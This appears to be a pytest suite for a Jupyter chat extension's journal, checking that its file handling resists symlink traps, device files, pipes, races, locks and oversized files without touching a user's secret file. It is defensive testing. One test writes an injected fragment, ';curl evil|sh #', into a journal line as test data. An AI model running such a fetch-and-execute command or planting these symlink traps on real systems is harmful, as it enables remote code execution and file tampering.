"""What a repository may bring beside a notebook: links, devices, pipes and files that are not what they are called."""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
import subprocess
import sys
import threading
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from in_process import Cell, Page
from IPython.core.completer import provisionalcompleter
from journals import events_of
from PIL import Image as PIL

from zhipu_magic import Chat
from zhipu_magic.history.journal import checks as journal_checks
from zhipu_magic.history.journal import lines as journal_lines
from zhipu_magic.history.journal import reader as journal_reader
from zhipu_magic.history.journal.file import torn_file
from zhipu_magic.notebook import runner
from zhipu_magic.practice import Answer, PracticeServer
from zhipu_magic.text import regular_files
from zhipu_magic.text.errors import GLMError, InvalidRequest, JournalError
from zhipu_magic.values.images.from_value import image_of

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="Windows makes links for administrators alone")

EYES = "glm-5.3-flash"
SECRET = "the key to the house\n"


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cloned folder with a notebook in it."""
    folder = tmp_path / "repository"
    (folder / ".glm").mkdir(parents=True)
    monkeypatch.setenv("JPY_SESSION_NAME", str(folder / "a.ipynb"))
    return folder


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Where the user has what a repository has no business with."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / "secret").write_text(SECRET)
    return folder


@pytest.fixture
def loaded(bare_page: Page, server: PracticeServer, monkeypatch: pytest.MonkeyPatch) -> Callable[[], Page]:
    """Loads the extension, once all is in its place."""

    def load() -> Page:
        monkeypatch.setenv("ZHIPUAI_BASE_URL", server.base_url)
        monkeypatch.setenv("ZHIPUAI_API_KEY", server.api_key)
        assert bare_page.run("%load_ext zhipu_magic").success
        return bare_page

    return load


@pytest.fixture
def asking(server: PracticeServer) -> Iterator[Callable[..., Chat]]:
    """Makes chats with a journal, whose warnings are in their `told`."""
    chats: list[Chat] = []

    def make(path: Path, **settings: Any) -> Chat:
        told: list[str] = []
        settings = {"model": EYES, "base_url": server.base_url, "api_key": server.api_key, **settings}
        chat = Chat(journal=path, warn=told.append, **settings)
        chat.told = told  # type: ignore[attr-defined]
        chats.append(chat)
        return chat

    yield make
    for chat in chats:
        chat.close()


def told(chat: Chat) -> list[str]:
    return chat.told  # type: ignore[attr-defined, no-any-return]


def turns(path: Path) -> list[str]:
    return [turn.prompt for turn in Chat.load(path).thread().turns]


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """All names in a folder, and what the files hold."""
    found = sorted(folder.rglob("*"))
    return {str(path): path.read_bytes() if path.is_file() and not path.is_symlink() else None for path in found}


def text_of(cell: Cell) -> str:
    return "\n".join(str(output["data"].get("text/plain")) for output in cell.outputs)


# The journal

TRAPS: dict[str, Callable[[Path, Path], object]] = {
    "a link to a file": lambda place, home: place.symlink_to(home / "secret"),
    "a link to nothing": lambda place, home: place.symlink_to(home / ".zshenv"),
    "a link to a folder": lambda place, home: place.symlink_to(home),
    "a link to itself": lambda place, home: place.symlink_to(place),
    "a link to zeros": lambda place, home: place.symlink_to("/dev/zero"),
    "a link to a terminal": lambda place, home: place.symlink_to("/dev/ptmx"),
    "a link to the kernel's messages": lambda place, home: place.symlink_to("/proc/kmsg"),
    "a pipe": lambda place, home: os.mkfifo(place),
    "a folder": lambda place, home: place.mkdir(),
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("trap", TRAPS)
def test_a_journal_that_is_no_file_is_told_once_and_left(
    repository: Path, home: Path, loaded: Callable[[], Page], trap: str
) -> None:
    TRAPS[trap](repository / ".glm" / "a.jsonl", home)
    before = snapshot(home)
    page = loaded()
    first = page.run("%%glm\nhello")
    assert first.success
    assert "a.jsonl cannot be written" in text_of(first)
    assert "cannot be written" not in text_of(page.run("%%glm\nand again"))
    assert isinstance(page.run("%glm resume").error, JournalError)
    assert page.run("%glm journal").success
    assert page.magics.chat.thread().size == 2
    page.magics.chat.save(repository / "saved.jsonl")
    assert page.run(f"%glm journal {repository / 'other.jsonl'}").success
    assert turns(repository / "saved.jsonl") == turns(repository / "other.jsonl") == ["hello", "and again"]
    assert snapshot(home) == before


@pytest.mark.timeout(30)
@pytest.mark.parametrize("trap", TRAPS)
@pytest.mark.parametrize("name", [".glm", "images"])
def test_a_folder_of_ours_that_is_none_is_told_and_nothing_goes_through_it(
    repository: Path, home: Path, loaded: Callable[[], Page], trap: str, name: str
) -> None:
    place = repository / ".glm" / "images" if name == "images" else repository / ".glm"
    if name == ".glm":
        place.rmdir()
    if trap == "a folder":
        place.write_text("a file")
    else:
        TRAPS[trap](place, home)
    before = snapshot(home)
    page = loaded()
    page.names["one"] = PIL.new("RGB", (8, 6), "red")
    first = page.run(f"%%glm -m {EYES}\nWhat is {{{{ one }}}}?")
    assert first.success
    assert "a.jsonl cannot be written" in text_of(first)
    assert snapshot(home) == before


def test_what_a_link_kept_from_the_journal_is_written_once_it_is_gone(
    repository: Path, home: Path, asking: Callable[..., Chat]
) -> None:
    path = repository / ".glm" / "a.jsonl"
    path.symlink_to(home / "secret")
    chat = asking(path)
    assert chat.ask("one").text
    path.unlink()
    assert chat.ask("two").text
    assert turns(path) == ["one", "two"]


@pytest.mark.timeout(30)
@pytest.mark.parametrize("trap", TRAPS)
def test_a_torn_line_is_not_appended_to_what_a_link_leads_to(
    repository: Path, home: Path, asking: Callable[..., Chat], trap: str
) -> None:
    path = repository / ".glm" / "a.jsonl"
    assert asking(path).ask("one").text
    with path.open("ab") as file:
        file.write(b'{"id": "x-1", "event": "turn", ";curl evil|sh #')
    TRAPS[trap](torn_file(path), home)
    before = snapshot(home)
    chat = asking(path)
    assert chat.ask("two").text
    (warning,) = told(chat)
    assert "a.jsonl.torn is" in warning
    assert snapshot(home) == before
    shutil.rmtree(torn_file(path)) if trap == "a folder" else torn_file(path).unlink()
    assert chat.ask("three").text
    assert turns(path) == ["two", "three"]
    assert [event["prompt"] for event in events_of(journal_reader.read(path)) if "prompt" in event] == [
        "one",
        "two",
        "three",
    ]
    assert torn_file(path).read_bytes().startswith(b'{"id": "x-1"')


def test_names_of_files_under_way_cannot_be_foreseen(repository: Path, home: Path, asking: Callable[..., Chat]) -> None:
    path, saved = repository / ".glm" / "a.jsonl", repository / ".glm" / "saved.jsonl"
    picture = image_of(PIL.new("RGB", (8, 6), "red"))
    (repository / ".glm" / "images").mkdir()
    for place in (path, saved, repository / ".glm" / "images" / picture.file_name):
        place.with_name(f"{place.name}.new").symlink_to(home / "secret")
    chat = asking(path)
    assert chat.ask("What is this?", images=[picture]).text
    chat.save(saved)
    assert (home / "secret").read_text() == SECRET
    assert turns(path) == turns(saved) == ["What is this?"]
    assert not [name for name in snapshot(repository) if name.endswith(".new") and not Path(name).is_symlink()]


@pytest.mark.timeout(30)
@pytest.mark.parametrize("trap", TRAPS)
def test_a_journal_is_saved_to_no_link(repository: Path, home: Path, asking: Callable[..., Chat], trap: str) -> None:
    chat = asking(repository / ".glm" / "a.jsonl")
    assert chat.ask("one").text
    place = repository / "saved.jsonl"
    TRAPS[trap](place, home)
    before = snapshot(home)
    with pytest.raises(JournalError, match=r"saved\.jsonl is"):
        chat.save(place)
    with pytest.raises(JournalError):
        Chat.load(place)
    assert snapshot(home) == before


def test_folders_of_the_users_own_may_lie_behind_links(
    tmp_path: Path, loaded: Callable[[], Page], monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "disk" / "work").mkdir(parents=True)
    (tmp_path / "work").symlink_to(tmp_path / "disk" / "work")
    monkeypatch.setenv("JPY_SESSION_NAME", str(tmp_path / "work" / "a.ipynb"))
    page = loaded()
    page.names["one"] = PIL.new("RGB", (8, 6), "red")
    assert page.run(f"%%glm -m {EYES}\nWhat is {{{{ one }}}}?").success
    journal = tmp_path / "work" / ".glm" / "a.jsonl"
    assert turns(journal) == ["What is [image 1: one]?"]
    assert page.run(f"%glm export {tmp_path / 'work' / 'talk.md'}").success
    assert page.run(f"%glm journal {tmp_path / 'work' / 'other.jsonl'}").success
    assert page.run("%%glm\nand now?").success
    assert turns(tmp_path / "disk" / "work" / "other.jsonl") == ["What is [image 1: one]?", "and now?"]


def test_a_notebook_is_not_recorded_through_a_link(
    repository: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import nbformat

    (home / "a.jsonl").write_text(SECRET)
    nbformat.write(nbformat.v4.new_notebook(), repository / "a.ipynb")
    (repository / ".glm").rmdir()
    (repository / ".glm").symlink_to(home)
    before = snapshot(home)
    assert runner.record(repository / "a.ipynb") == 1
    (repository / ".glm").unlink()
    (repository / ".glm").mkdir()
    (repository / ".glm" / "a.jsonl").symlink_to(home / "a.jsonl")
    assert runner.record(repository / "a.ipynb") == 1
    assert capsys.readouterr().out.count("is a link") == 2
    assert snapshot(home) == before


@pytest.mark.parametrize("write", [True, False])
def test_a_folder_that_is_swapped_for_a_link_meanwhile_lets_nothing_out(
    repository: Path, home: Path, write: bool
) -> None:
    folder, aside, path = repository / ".glm", repository / "aside", repository / ".glm" / "secret"
    path.write_bytes(b"ours")
    done = threading.Event()

    def swap() -> None:
        while not done.is_set():
            folder.rename(aside)
            folder.symlink_to(home)
            folder.unlink()
            aside.rename(folder)

    swapping = threading.Thread(target=swap)
    swapping.start()
    try:
        for _ in range(2_000):
            with suppress(OSError):
                if write:
                    regular_files.replace(path, [b"ours"])
                else:
                    assert regular_files.read(path, 100) == b"ours"
    finally:
        done.set()
        swapping.join()
    assert snapshot(home) == {str(home / "secret"): SECRET.encode()}


# Pictures


def png(colour: str = "red", size: tuple[int, int] = (8, 6)) -> bytes:
    file = io.BytesIO()
    PIL.new("RGB", size, colour).save(file, "PNG")
    return file.getvalue()


def _linked(data: bytes) -> Callable[[Path, Path], object]:
    def lay(place: Path, home: Path) -> None:
        (home / "picture").write_bytes(data)
        place.symlink_to(home / "picture")

    return lay


def _write(data: bytes) -> Callable[[Path, Path], object]:
    return lambda place, home: place.write_bytes(data)


FALSE_PICTURES: dict[str, Callable[[Path, Path], object]] = {
    **TRAPS,
    "a link to the very picture": _linked(png()),
    "another file": _write(SECRET.encode()),
    "an empty file": _write(b""),
    "a picture of another size": _write(png(size=(9, 6))),
    "other pixels": _write(png("blue")),
    "half a picture": _write(png()[:-20]),
    "a damaged picture": _write(png()[:45] + b"\0\0\0" + png()[48:]),
    "a head and a secret": _write(png()[:33] + SECRET.encode()),
    "a picture of another kind": _write(b"GIF89a" + bytes(100)),
    "a picture that is too large to send": _write(png() + bytes(5_000_000)),
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("false", FALSE_PICTURES)
@pytest.mark.parametrize("given", ["pixels", "bytes"])
def test_a_picture_that_the_journal_does_not_speak_of_is_neither_sent_nor_exported(
    repository: Path, home: Path, asking: Callable[..., Chat], loaded: Callable[[], Page],
    server: PracticeServer, false: str, given: str,
) -> None:  # fmt: skip
    path = repository / ".glm" / "a.jsonl"
    picture = image_of(png() if given == "bytes" else PIL.new("RGB", (8, 6), "red"))
    assert asking(path).ask("What is this?", images=[picture]).text
    place = repository / ".glm" / "images" / picture.file_name
    page = loaded()
    assert page.run("%glm resume").success
    place.unlink()
    FALSE_PICTURES[false](place, home)
    count = len(server.requests)
    cell = page.run("%%glm\nSure?")
    assert isinstance(cell.error, JournalError)
    assert place.name in str(cell.error)
    for form in (".md", ".json", ".py", ".ipynb"):
        assert isinstance(page.run(f"%glm export {repository / 'talk'}{form}").error, JournalError)
    assert len(server.requests) == count
    assert not list(repository.glob("talk*"))
    page.run("%glm undo")
    assert page.run("%%glm\nhello").success


@pytest.mark.timeout(30)
@pytest.mark.parametrize("false", [name for name in FALSE_PICTURES if name != "a folder"])
def test_what_stands_in_the_place_of_a_picture_is_replaced(
    repository: Path, home: Path, asking: Callable[..., Chat], false: str
) -> None:
    path = repository / ".glm" / "a.jsonl"
    picture = image_of(PIL.new("RGB", (8, 6), "red"))
    place = repository / ".glm" / "images" / picture.file_name
    place.parent.mkdir()
    FALSE_PICTURES[false](place, home)
    before = snapshot(home)
    chat = asking(path)
    assert chat.ask("What is this?", images=[picture]).text
    assert told(chat) == []
    assert snapshot(home) == before
    assert not place.is_symlink()
    assert place.read_bytes() == picture.data


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "CMYK", "I;16", "F"])
def test_a_picture_of_any_mode_is_known_again(
    repository: Path, asking: Callable[..., Chat], server: PracticeServer, mode: str
) -> None:
    path = repository / ".glm" / "a.jsonl"
    image = PIL.new("L", (8, 6), 7)
    image.putpixel((1, 1), 200)
    picture = image_of(image.convert(mode))
    assert asking(path).ask("What is this?", images=[picture]).text
    loaded = Chat.load(path, base_url=server.base_url, api_key=server.api_key)
    assert loaded.thread().turns[0].images[0].data == picture.data
    (repository / ".glm" / "images" / picture.file_name).write_bytes(png("blue"))
    with pytest.raises(JournalError):
        _ = Chat.load(path).thread().turns[0].images[0].data


def test_pictures_that_were_made_smaller_or_are_jpegs_are_read_again(
    repository: Path, asking: Callable[..., Chat]
) -> None:
    path = repository / ".glm" / "a.jsonl"
    photograph = io.BytesIO()
    PIL.new("RGB", (80, 60), "red").save(photograph, "JPEG")
    given = [PIL.new("L", (7_000, 10), 7), photograph.getvalue(), PIL.open(photograph)]
    pictures = [image_of(one) for one in given]
    assert asking(path).ask("What are these?", images=pictures).text
    loaded = Chat.load(path).thread().turns[0].images
    assert [one.data for one in loaded] == [one.data for one in pictures]


def test_a_picture_that_is_handed_over_must_be_a_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.png")
    for name in (tmp_path / "pipe.png", Path("/dev/zero"), Path("/dev/ptmx")):
        with pytest.raises(InvalidRequest, match="cannot be read"):
            image_of(name)
    (tmp_path / "real.png").write_bytes(png())
    (tmp_path / "mine.png").symlink_to(tmp_path / "real.png")
    assert image_of(tmp_path / "mine.png").data == png()


@pytest.mark.timeout(30)
def test_a_reference_to_what_blocks_does_not_hang(chat: Chat) -> None:
    with suppress(InvalidRequest):
        _ = chat.request("{{ log }}", names={"log": Path("/proc/kmsg")})


# Exports


@pytest.mark.timeout(30)
@pytest.mark.parametrize("trap", TRAPS)
def test_nothing_is_exported_to_what_is_no_file(
    repository: Path, home: Path, loaded: Callable[[], Page], trap: str
) -> None:
    page = loaded()
    assert page.run("%%glm\nhello").success
    place = repository / "report.md"
    TRAPS[trap](place, home)
    before = snapshot(home)
    for force in ("", " --force"):
        error = page.run(f"%glm export {place}{force}").error
        assert isinstance(error, GLMError)
        assert "report.md cannot be written: report.md is" in str(error)
    assert snapshot(home) == before
    assert [path.name for path in repository.iterdir() if path.name.endswith(".new")] == []


def test_an_export_that_is_written_anew_keeps_its_permissions(repository: Path, loaded: Callable[[], Page]) -> None:
    page = loaded()
    assert page.run("%%glm\nhello").success
    place = repository / "report.md"
    place.write_text("mine alone")
    place.chmod(0o600)
    assert page.run(f"%glm export {place} --force").success
    assert place.stat().st_mode & 0o777 == 0o600
    assert "hello" in place.read_text()


def test_an_export_that_fails_leaves_what_was_there(
    repository: Path, loaded: Callable[[], Page], server: PracticeServer
) -> None:
    import resource
    import signal

    page = loaded()
    server.enqueue(Answer("many words " * 5_000))
    assert page.run("%%glm\nhello").success
    place = repository / "report.md"
    place.write_text("as it was")
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    before = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        resource.setrlimit(resource.RLIMIT_FSIZE, (10_000, limits[1]))
        assert "cannot be written" in str(page.run(f"%glm export {place} --force").error)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
        signal.signal(signal.SIGXFSZ, before)
    assert place.read_text() == "as it was"
    assert sorted(path.name for path in repository.iterdir()) == [".glm", "report.md"]


# Size


def _sparse(path: Path, *pieces: bytes | int) -> None:
    """A file of these pieces; a number is so many zeros, which take no room."""
    with path.open("wb") as file:
        for piece in pieces:
            if isinstance(piece, int):
                file.seek(piece, os.SEEK_CUR)
            else:
                file.write(piece)
        file.truncate(file.tell())


SESSION = b'{"id": "aa-0", "event": "session", "version": 1}\n'
TURN = json.dumps(
    {
        "id": "aa-1", "event": "turn", "thread": "main", "prompt": "kept", "key": "k", "model": "m",
        "completion": {"choices": [{"finish_reason": "stop", "message": {"content": "ok"}}]},
    }
).encode() + b"\n"  # fmt: skip


def test_a_huge_file_is_neither_loaded_nor_resumed(repository: Path, loaded: Callable[[], Page]) -> None:
    _sparse(repository / ".glm" / "a.jsonl", SESSION, TURN, 1 << 40)
    page = loaded()
    assert "larger than 2 GiB" in str(page.run("%glm resume").error)
    cell = page.run("%%glm\nhello")
    assert cell.success
    assert "larger than 2 GiB" in text_of(cell)


def test_a_torn_line_without_end_is_not_copied(repository: Path, loaded: Callable[[], Page]) -> None:
    path = repository / ".glm" / "a.jsonl"
    _sparse(path, SESSION, TURN, 200_000_000)
    cell = loaded().run("%%glm\nhello")
    assert cell.success
    assert "too long to be one of ours" in text_of(cell)
    assert not torn_file(path).exists()


def test_a_huge_file_of_another_kind_is_known_by_its_beginning(tmp_path: Path) -> None:
    path = tmp_path / "zeros"
    _sparse(path, 1 << 31)
    tracemalloc.start()
    try:
        with pytest.raises(JournalError, match="another kind"):
            journal_checks.refuse_other(path)
        assert tracemalloc.get_traced_memory()[1] < 2_000_000
    finally:
        tracemalloc.stop()


def test_a_line_without_end_is_damaged_and_not_held(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    _sparse(path, SESSION, 200_000_000, b"\n", TURN, b'{"id": "aa-2"', 200_000_000)
    tracemalloc.start()
    try:
        found = journal_reader.read(path)
        journal_checks.refuse_other(path)
        assert tracemalloc.get_traced_memory()[1] < 150_000_000
    finally:
        tracemalloc.stop()
    assert [event["id"] for event in events_of(found)] == ["aa-0", "aa-1"]
    assert list(found.numbers) == [1, 3]
    assert len(found.notes) == 2
    assert any("line 2 is damaged" in note for note in found.notes)


@given(data=st.binary(max_size=200).map(lambda data: data.replace(b"a", b"\n").replace(b"\0", b"\n")))
def test_lines_are_cut_at_newlines_alone(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    path = tmp_path_factory.mktemp("lines") / "file"
    path.write_bytes(data)
    with pytest.MonkeyPatch.context() as patch, regular_files.opened(path) as file:
        patch.setattr(journal_lines, "BLOCK", 7)
        assert [line for some in journal_lines.blocks_of(file, len(data)) for line in some] == io.BytesIO(
            data
        ).readlines()


@pytest.mark.parametrize("content", [b'{"id": 1, "text": "a row of data"}\n', b'{"id": "x"}\n', b"\n\n", b"\0" * 100])
def test_rows_of_data_are_no_journal(page: Page, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "rows.jsonl"
    path.write_bytes(content)
    assert "of another kind" in str(page.run(f"%glm journal {path}").error)
    assert path.read_bytes() == content


# Locks

_HOLD = """
import fcntl, sys
with open(sys.argv[1], "a+b") as file:
    fcntl.flock(file, fcntl.LOCK_EX)
    print("locked", flush=True)
    sys.stdin.read()
"""


class Holder:
    """Another program that has locked a file until it is told to let go."""

    def __init__(self, path: Path) -> None:
        run = [sys.executable, "-c", _HOLD, str(path)]
        self.process = subprocess.Popen(run, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert self.process.stdout is not None and self.process.stdin is not None
        assert self.process.stdout.readline() == "locked\n"

        self.letting_go = threading.Lock()

    def let_go(self) -> None:
        with self.letting_go:  # a timer's thread, and the end of the test
            if self.process.returncode is None:
                self.process.communicate()


@pytest.fixture
def hold() -> Iterator[Callable[[Path], Holder]]:
    holders: list[Holder] = []

    def make(path: Path) -> Holder:
        holders.append(Holder(path))
        return holders[-1]

    yield make
    for holder in holders:
        holder.let_go()


@pytest.mark.timeout(30)
def test_a_lock_that_stays_is_told_once_and_no_line_is_lost(
    repository: Path, loaded: Callable[[], Page], hold: Callable[[Path], Holder]
) -> None:
    path = repository / ".glm" / "a.jsonl"
    page = loaded()
    assert page.run("%%glm\none").success
    holder = hold(path)
    second = page.run("%%glm\ntwo")
    assert second.success
    assert "another program has locked it" in text_of(second)
    third = page.run("%%glm\nthree")
    assert third.success
    assert "locked" not in text_of(third)
    assert turns(path) == ["one"]
    holder.let_go()
    assert page.run("%%glm\nfour").success
    assert turns(path) == ["one", "two", "three", "four"]


@pytest.mark.timeout(30)
def test_what_a_lock_kept_back_is_written_when_the_chat_is_closed(
    repository: Path, asking: Callable[..., Chat], hold: Callable[[Path], Holder]
) -> None:
    path = repository / ".glm" / "a.jsonl"
    chat = asking(path)
    assert chat.ask("one").text
    holder = hold(path)
    assert chat.ask("two").text
    threading.Timer(0.5, holder.let_go).start()
    chat.close()
    assert turns(path) == ["one", "two"]


_ASK_AND_END = """
import sys
from zhipu_magic import Chat
url, key, path = sys.argv[1:]
assert Chat("glm-4", base_url=url, api_key=key, journal=path, warn=lambda text: None).ask("at last").text
print("asked", flush=True)
"""


@pytest.mark.timeout(60)
def test_what_a_lock_kept_back_is_written_when_python_ends(
    repository: Path, server: PracticeServer, hold: Callable[[Path], Holder]
) -> None:
    path = repository / ".glm" / "a.jsonl"
    path.touch()
    holder = hold(path)
    run = [sys.executable, "-c", _ASK_AND_END, server.base_url, server.api_key, str(path)]
    with subprocess.Popen(run, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "asked\n"
        assert path.read_bytes() == b""
        holder.let_go()
    assert process.returncode == 0
    assert turns(path) == ["at last"]


@pytest.mark.timeout(30)
def test_a_locked_journal_is_read_all_the_same(
    repository: Path, asking: Callable[..., Chat], hold: Callable[[Path], Holder]
) -> None:
    path = repository / ".glm" / "a.jsonl"
    assert asking(path).ask("one").text
    hold(path)
    assert turns(path) == ["one"]
    again = asking(path, replay="auto")
    assert again.ask("one").text
    assert told(again)


# A working directory that is gone


@pytest.fixture
def gone(bare_page: Page, tmp_path: Path) -> Iterator[None]:
    """The working directory is deleted; after the shell has begun, for IPython cannot begin in one that is."""
    folder = tmp_path / "gone"
    folder.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        folder.rmdir()
        yield


def test_a_page_whose_folder_is_gone_loads_asks_and_answers(
    gone: None, loaded: Callable[[], Page], tmp_path: Path
) -> None:
    page = loaded()
    page.names["one"] = PIL.new("RGB", (8, 6), "red")
    first = page.run(f"%%glm -m {EYES}\nWhat is {{{{ one }}}}?")
    assert first.success
    assert text_of(first).count("The working directory was deleted") == 1
    assert "working directory" not in text_of(page.run("%%glm\nhello"))
    journal = page.magics.chat.history.journal.path
    assert journal is not None and journal.is_relative_to(tmp_path / "user data")
    assert str(journal) in page.run("%glm journal").plain()
    assert turns(journal) == ["What is [image 1: one]?", "hello"]
    page.run("exec(compile('1/0', 'script.py', 'exec'))")
    assert page.run("%%glm\nWhy {{ error }}?").success
    with provisionalcompleter():
        assert list(page.shell.Completer.completions("%glm export ta", 14)) == []
    for line in ("", "history", "history --full", "threads", "models", "usage"):
        assert page.run(f"%glm {line}").success
    assert page.run(f"%glm export {tmp_path / 'talk.md'}").success
    for line in ("export talk.md", "journal talk.jsonl", "resume talk.jsonl"):
        assert "the working directory was deleted" in str(page.run(f"%glm {line}").error)
    page.names["x"] = Path("a.txt")
    assert isinstance(page.run("%%glm\n{{ x }}").error, InvalidRequest)
    assert isinstance(page.run(f"%%glm -m {EYES} --image a.png\nWhat?").error, InvalidRequest)


def test_a_chat_whose_folder_is_gone_goes_on_without_a_journal(gone: None, asking: Callable[..., Chat]) -> None:
    chat = asking(Path("talk.jsonl"))
    (warning,) = told(chat)
    assert "the working directory was deleted" in warning
    assert chat.ask("one").text
    with pytest.raises(JournalError, match="working directory was deleted"):
        chat.save("talk.jsonl")


def test_a_folder_that_goes_while_the_page_runs_takes_no_turn_along(
    repository: Path, loaded: Callable[[], Page]
) -> None:
    page = loaded()
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(repository)
        assert page.run("%%glm\none").success
        shutil.rmtree(repository)
        assert page.run("%%glm\ntwo").success
        assert turns(repository / ".glm" / "a.jsonl") == ["one", "two"]
        assert page.run("%glm journal").success


@pytest.mark.parametrize("path", ["~nobody-of-this-name/a.jsonl", "a\0b.jsonl", "a\ud800.jsonl", "/", "..", "x" * 300])
def test_a_path_that_nothing_can_have_is_refused_in_words(
    page: Page, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    monkeypatch.chdir(tmp_path)
    page.magics.journal = path
    first = page.run("%%glm\nhello")
    assert first.success
    for line in (f"journal {path}", f"resume {path}", f"export {path}.md"):
        error = page.run(f"%glm {line}").error
        assert error is None or isinstance(error, GLMError), line


# Platforms without these calls

_BARE = """
import os, sys
for name in ("O_NOFOLLOW", "O_NONBLOCK", "O_DIRECTORY", "O_PATH", "fchmod", "ftruncate", "geteuid"):
    delattr(os, name)
os.supports_dir_fd = set()
sys.modules["fcntl"] = None
from pathlib import Path
from zhipu_magic import Chat
from zhipu_magic.text import regular_files
from zhipu_magic.text.errors import JournalError

url, key, folder = sys.argv[1:]
told = []
chat = Chat("glm-4", base_url=url, api_key=key, journal=f"{folder}/.glm/a.jsonl", warn=told.append)
assert chat.ask("one").text
assert chat.ask("two").text
assert not told, told
assert [turn.prompt for turn in Chat.load(f"{folder}/.glm/a.jsonl").thread().turns] == ["one", "two"]
for place in ("link/.glm/b.jsonl", ".glm/linked.jsonl", ".glm/linked/b.jsonl"):
    chat = Chat("glm-4", base_url=url, api_key=key, journal=Path(folder, place), warn=told.append)
    assert chat.ask("three").text
assert len(told) == 2 and all("is a link" in one for one in told), told
"""


def test_where_the_platform_has_no_such_calls_links_are_refused_too(
    repository: Path, home: Path, server: PracticeServer
) -> None:
    (repository / "link").symlink_to(repository)
    (repository / ".glm" / "linked.jsonl").symlink_to(home / ".zshenv")
    (repository / ".glm" / "linked").symlink_to(home)
    before = snapshot(home)
    run = [sys.executable, "-c", _BARE, server.base_url, server.api_key, str(repository)]
    subprocess.run(run, check=True)
    assert turns(repository / ".glm" / "b.jsonl") == ["three"]
    assert snapshot(home) == before


def test_no_descriptor_is_left_open(repository: Path, home: Path, asking: Callable[..., Chat]) -> None:
    path = repository / ".glm" / "a.jsonl"
    picture = image_of(PIL.new("RGB", (8, 6), "red"))
    chat = asking(path)
    assert chat.ask("one", images=[picture]).text
    before = len(os.listdir("/proc/self/fd"))
    (repository / ".glm" / "b.jsonl").symlink_to(home / "secret")
    for _ in range(3):
        assert chat.ask("two", images=[picture]).text
        assert turns(path)
        for name in (".glm/b.jsonl", "secret/b.jsonl"):
            with pytest.raises(JournalError):
                journal_reader.read(repository / name)
    assert len(os.listdir("/proc/self/fd")) <= before
    assert base64.b64decode(chat.thread().turns[0].images[0].base64()) == picture.data
